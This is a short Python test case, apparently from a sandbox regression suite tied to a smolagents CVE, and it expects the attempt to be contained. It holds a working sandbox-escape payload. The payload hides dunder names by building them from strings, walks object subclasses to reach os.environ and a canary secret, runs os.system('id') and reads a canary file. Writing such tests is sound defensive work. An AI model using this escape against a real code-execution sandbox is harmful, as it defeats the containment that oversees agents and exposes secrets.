# from: smolagents CVE-2025-9959
# after: names of attributes that no text of the program shows
# must: contained
u = '_' * 2
base = getattr(getattr((), u + 'class' + u), u + 'base' + u)
subs = getattr(base, u + 'subclasses' + u)()
hits = [c for c in subs if c.__name__ in ('_wrap_close', 'Popen', '_Environ', 'BuiltinImporter', 'FileLoader', 'CDLL')]
for c in hits:
    try:
        g = getattr(getattr(c, u + 'init' + u), u + 'globals' + u)
        print('ESCAPED', g['environ']['CANARY_SECRET'])
    except Exception as e:
        print(type(e).__name__)
    try:
        print(c.load_module('os').system('id'))
        print('ESCAPED')
    except Exception as e:
        print(type(e).__name__)
    try:
        print('ESCAPED', c('a', '@CANARY@').get_data('@CANARY@'))
    except Exception as e:
        print(type(e).__name__)
print(len(hits))
